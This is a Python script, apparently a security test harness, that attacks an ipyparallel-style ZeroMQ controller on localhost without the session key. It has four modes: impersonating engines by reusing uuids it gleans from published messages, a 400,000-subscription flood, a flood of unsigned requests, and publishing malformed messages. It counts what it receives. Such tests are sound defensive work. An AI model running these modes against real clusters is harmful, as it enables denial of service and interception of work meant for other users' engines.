"""A peer without the key at the ports of a drop-in controller. It knows only the ports.

    ipyparallel_peer.py MODE PORTS_JSON [--as-user UID] [--uuid UUID]...

MODE `impersonate`: reads engine uuids from published messages, connects to every engine port with them and with the
given uuids as routing ids, and waits for messages. `subscribe`: 400,000 subscriptions. `flood`: unsigned requests to
the client ports and the heartbeat at full speed. `publish`: malformed output. The last line is a JSON object with the
numbers of received messages.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import threading
import time
from typing import Any

import zmq

SUBSCRIPTIONS = 400_000
ENGINE_CHANNELS = ("task", "mux", "control", "broadcast", "hb_pong")
DELIMITER = b"<IDS|MSG>"


def uuids_in(frames: list[bytes]) -> set[str]:
    """Return the engine uuids in a published message, from the content of a notification or the session of a header."""
    found = set()
    for frame in frames:
        try:
            inside = json.loads(frame)
        except ValueError:
            continue
        if isinstance(inside, dict):
            found |= {str(inside[name]) for name in ("uuid", "session") if name in inside}
    return found


class Peer:
    def __init__(self, ports: dict[str, Any], uuids: list[str]) -> None:
        self.ports = ports
        self.uuids = set(uuids)
        self.context: zmq.Context[Any] = zmq.Context()
        self.received: dict[str, int] = {"published": 0, "messages": 0}
        self.ended = threading.Event()

    def connect(self, kind: int, side: str, channel: str, routing_id: str = "") -> zmq.Socket[bytes]:
        port = self.ports[side][channel]
        socket: zmq.Socket[bytes] = self.context.socket(kind)
        socket.linger = 0
        socket.sndhwm = 10_000
        if routing_id:
            socket.routing_id = routing_id.encode()
        socket.connect(f"tcp://127.0.0.1:{port[0] if isinstance(port, list) else port}")
        return socket

    def impersonate(self) -> None:
        poller = zmq.Poller()
        published = [self.connect(zmq.SUB, "client", channel) for channel in ("notification", "iopub")]
        for socket in published:
            socket.subscribe(b"")
            poller.register(socket, zmq.POLLIN)
        known: set[str] = set()
        while not self.ended.is_set():
            for uuid in self.uuids - known:
                for channel in ENGINE_CHANNELS:
                    poller.register(self.connect(zmq.DEALER, "engine", channel, uuid), zmq.POLLIN)
                known.add(uuid)
            for socket, _ in poller.poll(50):
                frames = socket.recv_multipart()
                if socket in published:
                    self.received["published"] += 1
                    self.uuids |= uuids_in(frames)
                else:
                    self.received["messages"] += 1

    def subscribe(self) -> None:
        for channel in ("iopub", "notification"):
            socket = self.connect(zmq.XSUB, "client", channel)
            socket.sndhwm = 0
            for number in range(SUBSCRIPTIONS):
                socket.send(b"\x01some rather long topic without a publisher %d" % number)
        self.ended.wait()

    def flood(self) -> None:
        channels = ("task", "mux", "registration", "broadcast", "control")
        sockets = [self.connect(zmq.DEALER, "client", channel) for channel in channels]
        sockets += [
            self.connect(zmq.DEALER, "engine", "hb_pong", "unknown"),
            self.connect(zmq.DEALER, "engine", "task"),
        ]
        message = [DELIMITER, b"", b'{"msg_id": "1", "msg_type": "apply_request", "session": "s"}', b"{}", b"{}", b"{}"]
        while not self.ended.is_set():
            for socket in sockets:
                for _ in range(50):
                    try:
                        socket.send_multipart(message, zmq.NOBLOCK)
                    except zmq.Again:
                        break

    def publish(self) -> None:
        socket = self.connect(zmq.PUB, "engine", "iopub")
        header = b'{"msg_id": "1", "msg_type": "stream", "session": "s", "date": "2026-01-01T00:00:00Z"}'
        while not self.ended.is_set():
            for message in (
                [b"garbage"],
                [b"engine.0.stdout", DELIMITER, b"", b"{", b"{}", b"{}", b"{}"],
                [b"engine.0.stdout", DELIMITER, b"", header, b"{}", b"{}", b"{}"],
                [b"engine.0.stdout", DELIMITER, b"wrong", header, header, b"{}", b'{"name": "stdout"}'],
            ):
                socket.send_multipart(message)
            time.sleep(0.0005)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["impersonate", "subscribe", "flood", "publish"])
    parser.add_argument("ports")
    parser.add_argument("--as-user", type=int)
    parser.add_argument("--uuid", action="append", default=[])
    arguments = parser.parse_args()
    if arguments.as_user is not None:
        os.setgroups([])
        os.setuid(arguments.as_user)
    peer = Peer(json.loads(arguments.ports), arguments.uuid)
    thread = threading.Thread(target=getattr(peer, arguments.mode), daemon=True)
    thread.start()
    time.sleep(0.5)
    print("the attack has begun", flush=True)
    sys.stdin.read()
    peer.ended.set()
    thread.join(5)
    print(json.dumps({**peer.received, "uuids": sorted(peer.uuids)}), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
